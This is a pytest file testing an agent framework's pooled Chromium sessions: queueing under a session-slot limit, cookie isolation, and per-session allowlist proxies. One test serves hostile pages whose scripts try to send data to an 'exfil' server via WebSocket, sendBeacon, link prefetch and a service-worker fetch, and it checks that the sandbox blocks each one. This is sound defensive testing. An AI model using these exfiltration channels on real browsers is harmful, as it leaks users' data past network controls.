"""Browser sessions at scale: contexts of one shared Chromium, each behind its own allowlist
proxy, and a slot limit that queues browser steps without ever deadlocking."""

from __future__ import annotations

import asyncio
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest

from graph import Context, Decision, Plan, RunStatus, Step
from graph.app.report import report_data
from graph.app.runner import run_thread
from graph.events import Event, StepWaiting
from graph.runtime.attempts import attempt_tool
from graph.testing import ScriptedChatModel
from tools import (
    BrowserPool,
    PlaywrightExecutor,
    SandboxPolicy,
    StepContext,
    ToolRegistry,
    default_registry,
)
from tools.step import StepWaits

pytestmark = pytest.mark.browser


def two_step_tasks(site: str, k: int) -> Plan:
    """k independent tasks, each a goto then a read in a named session of its own."""
    steps: list[Step] = []
    for i in range(k):
        session = f"customer{i}"
        steps += [
            Step(id=f"open{i}", tool="browser_goto",
                 args={"url": f"{site}/customers/{i % 3 + 1}", "session": session}),
            Step(id=f"read{i}", tool="browser_read", depends_on=[f"open{i}"],
                 args={"selector": "h1", "session": session}),
        ]
    return Plan(goal="read every customer", steps=steps)


@pytest.mark.timeout(90)
async def test_more_named_sessions_than_slots_queue_and_finish(site):
    """Issue 20's hang: 5 named sessions, 2 slots. Before, a named session kept its slot
    until the run ended and the fifth waited out its step timeout; now every step ends, and
    the ones that waited say so in the step events and in the run report."""
    registry = default_registry()
    model = ScriptedChatModel(responses=[two_step_tasks(site, 5),
                                         Decision(action="finish", reason="ok"), "ok"])
    context = Context(max_browser_sessions=2, step_timeout_seconds=60, max_retries=0,
                      step_screenshots=False, allowed_hosts=[urlsplit(site).netloc])
    events: list[Event] = []
    try:
        thread, final = await run_thread("read five customers", context=context, model=model,
                                         tools=registry, on_event=events.append)
    finally:
        await registry.aclose()
    assert final.status == RunStatus.COMPLETED, final.reason
    results = {r.step_id: r for r in final.results}
    assert len(results) == 10 and {r.status for r in results.values()} == {"ok"}
    assert [results[f"read{i}"].output["text"] for i in range(5)] == [
        "Acme Corp", "Globex", "Initech", "Acme Corp", "Globex"]
    # Ten steps, two slots: some had to wait, and said why, live and in the report.
    waiting = [e for e in events if isinstance(e, StepWaiting)]
    assert waiting and all("max_browser_sessions=2" in e.reason for e in waiting)
    waited = {r.step_id for r in results.values() if r.waited}
    assert waited == {e.step_id for e in waiting}
    shown = {s["step_id"]: s["waited"] for s in (await report_data(thread))["steps"]}
    assert {step for step, text in shown.items() if text} == waited
    assert all(shown[step].startswith("waited ") for step in waited)


@pytest.fixture
async def pool():
    pool = BrowserPool()
    yield pool
    await pool.aclose()


async def test_sessions_are_contexts_of_one_chromium_with_their_own_cookies(pool, site):
    executor = PlaywrightExecutor(pool)
    policy = SandboxPolicy(allowed_hosts=(urlsplit(site).netloc,))
    step = StepContext(policy=policy, scope="run")
    await executor.goto(f"{site}/customers", step, session="a")
    await executor.goto(f"{site}/customers", step, session="b")
    a, b = pool._named[("run", "a", policy, None)], pool._named[("run", "b", policy, None)]
    assert a.kind == b.kind == "context" and a.context.browser is b.context.browser
    assert a.proxy is not b.proxy  # each context reaches the network through its own proxy
    await a.page.evaluate("document.cookie = 'who=a; path=/'; localStorage.setItem('k', 'a')")
    assert await b.page.evaluate("document.cookie + '|' + localStorage.getItem('k')") == "|null"
    assert await a.page.evaluate("document.cookie") == "who=a"


class _Recorder(BaseHTTPRequestHandler):
    """Serves the hostile pages (on the allowed port) and records every hit (on both)."""

    pages: dict[str, tuple[str, str]] = {}
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        self.hits.append(f"{self.server.server_address[1]}{self.path}")
        kind, body = self.pages.get(self.path.split("?")[0], ("text/plain", "ok"))
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    do_POST = do_GET  # noqa: N815 - a beacon posts

    def log_message(self, *args: object) -> None:
        pass


def _serve() -> tuple[ThreadingHTTPServer, int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, server.server_address[1]


async def test_what_a_route_handler_would_miss_stays_inside_the_allowlist(pool):
    """A websocket, a beacon, link preconnect/prefetch, and a service worker's own fetch:
    each aimed at a port outside the allowlist, from a context session. None arrives."""
    allowed, allowed_port = _serve()
    exfil, exfil_port = _serve()
    out = f"127.0.0.1:{exfil_port}"
    html = "text/html"
    _Recorder.pages = {
        "/ws": (html, f"<p>ws</p><script>new WebSocket('ws://{out}/ws')</script>"),
        "/beacon": (html, f"<p>b</p><script>navigator.sendBeacon('http://{out}/beacon', "
                          "'d')</script>"),
        "/links": (html, f"<link rel=preconnect href='http://{out}/'>"
                         f"<link rel=prefetch href='http://{out}/prefetch'>"
                         f"<link rel=dns-prefetch href='http://{out}/'><p>links</p>"),
        "/sw-page": (html, "<p>sw</p><script>navigator.serviceWorker.register('/sw.js')"
                           ".then(() => navigator.serviceWorker.ready).then(() => "
                           "document.title = 'sw ready')</script>"),
        "/sw.js": ("text/javascript", f"self.addEventListener('install', e => e.waitUntil("
                                      f"fetch('http://{out}/from-sw').catch(() => 0)));"),
    }
    _Recorder.hits = []
    executor = PlaywrightExecutor(pool)
    base = f"http://127.0.0.1:{allowed_port}"
    try:
        step = StepContext(policy=SandboxPolicy(allowed_hosts=(f"127.0.0.1:{allowed_port}",)))
        for page in ("/ws", "/beacon", "/links", "/sw-page"):
            await executor.goto(f"{base}{page}", step, session="hostile")
        session = next(iter(pool._named.values()))
        await session.page.wait_for_function("document.title === 'sw ready'",
                                             timeout=10_000)
        await asyncio.sleep(1.0)  # let beacons, prefetches and the worker's fetch go
        assert [hit for hit in _Recorder.hits if hit.startswith(str(exfil_port))] == []
        # Chromium tunnels a websocket through the proxy with CONNECT: refused as such.
        assert {f"https://{out}/", f"http://{out}/beacon", f"http://{out}/prefetch",
                f"http://{out}/from-sw"} <= set(session.blocked()), session.blocked()
    finally:
        allowed.shutdown()
        exfil.shutdown()


async def test_each_session_enforces_its_own_runs_allowlist(pool, site):
    """Two runs with different allowlists share the Chromium, not the policy."""
    other, other_port = _serve()
    _Recorder.pages, _Recorder.hits = {}, []
    executor = PlaywrightExecutor(pool)
    wide = SandboxPolicy(allowed_hosts=(urlsplit(site).netloc, f"127.0.0.1:{other_port}"))
    narrow = SandboxPolicy(allowed_hosts=(urlsplit(site).netloc,))
    try:
        await executor.goto(f"http://127.0.0.1:{other_port}/hello",
                            StepContext(policy=wide, scope="wide"), session="s")
        opened = await executor.goto(f"{site}/customers",
                                     StepContext(policy=narrow, scope="narrow"), session="s")
        session = pool._named[("narrow", "s", narrow, None)]
        await session.page.evaluate(
            f"fetch('http://127.0.0.1:{other_port}/sneak').catch(() => 'refused')")
        assert opened["title"] == "Customers"
        assert f"{other_port}/hello" in _Recorder.hits  # the wide run reached it
        assert f"{other_port}/sneak" not in _Recorder.hits  # the narrow one did not
        assert session.blocked() == [f"http://127.0.0.1:{other_port}/sneak"]
    finally:
        other.shutdown()


async def test_a_write_stopped_while_waiting_for_a_slot_never_ran(pool, site):
    """A step whose timeout passes while it waits for a slot never reached its tool: even a
    write without an idempotency key may then be retried (`not_sent`)."""
    registry = ToolRegistry()
    registry.register(PlaywrightExecutor(pool).tools()[1], side_effects=True)  # browser_click
    policy = SandboxPolicy(allowed_hosts=(urlsplit(site).netloc,), max_browser_sessions=1)
    waits = StepWaits()
    async with pool.session(StepContext(policy=policy, scope="run"), None):  # the one slot
        attempt = await attempt_tool(registry, "browser_click",
                                     {"selector": "#add", "session": "s"},
                                     StepContext(policy=policy, scope="run", waits=waits), 0.5)
    assert attempt.status == "timeout" and attempt.not_sent, attempt
    assert "waiting for a browser slot" in attempt.error.message
    assert waits.describe().startswith("waited 0.") and "max_browser_sessions=1" in waits.describe()


async def test_a_step_of_an_open_session_goes_before_a_new_sessions_first(pool, site):
    """Slots are not first come, first served: with the run's one slot taken, the first
    step of a new session asks first and the next step of an open session second; the
    open session's step gets the slot first, so a task that started finishes first."""
    policy = SandboxPolicy(allowed_hosts=(urlsplit(site).netloc,), max_browser_sessions=1)
    order: list[str] = []

    async def step(session: str, asked: asyncio.Event) -> None:
        waits = StepWaits(on_wait=lambda _: asked.set())
        async with pool.session(StepContext(policy=policy, scope="run", waits=waits), session):
            order.append(session)

    async with pool.session(StepContext(policy=policy, scope="run"), "open"):
        pass  # the session's first step: it is open now
    # Another step holds the one slot.
    async with pool.session(StepContext(policy=policy, scope="run"), None):
        new_asked, open_asked = asyncio.Event(), asyncio.Event()
        new = asyncio.create_task(step("new", new_asked))
        await new_asked.wait()
        again = asyncio.create_task(step("open", open_asked))
        await open_asked.wait()
    await asyncio.gather(new, again)
    assert order == ["open", "new"]


async def test_a_slot_is_kept_for_the_sessions_next_step_and_only_a_moment(pool, site,
                                                                           monkeypatch):
    """A step whose session a later step uses next keeps its slot for that step, ahead of
    a new session's first step that was waiting; when no next step comes, the kept slot
    is freed after `KEEP_SECONDS`, so the waiting step still runs."""
    from tools.browser import _Slots

    monkeypatch.setattr(_Slots, "KEEP_SECONDS", 0.3)
    policy = SandboxPolicy(allowed_hosts=(urlsplit(site).netloc,), max_browser_sessions=1)
    order: list[str] = []

    async def step(session: str, name: str, asked: asyncio.Event | None = None,
                   continues: bool = False) -> None:
        waits = StepWaits(on_wait=lambda _: asked and asked.set(), session_continues=continues)
        async with pool.session(StepContext(policy=policy, scope="run", waits=waits), session):
            order.append(name)

    new_asked = asyncio.Event()
    # Another step holds the one slot.
    async with pool.session(StepContext(policy=policy, scope="run"), None):
        first = asyncio.create_task(step("a", "a first", continues=True))
        await asyncio.sleep(0)  # it asks first, and gets the slot next
        new = asyncio.create_task(step("new", "new", new_asked))
        await new_asked.wait()
    await first
    await step("a", "a next", continues=True)  # the kept slot: before "new"
    await asyncio.wait_for(new, 5)  # nobody uses a's kept slot: freed after 0.3 s
    assert order == ["a first", "a next", "new"]
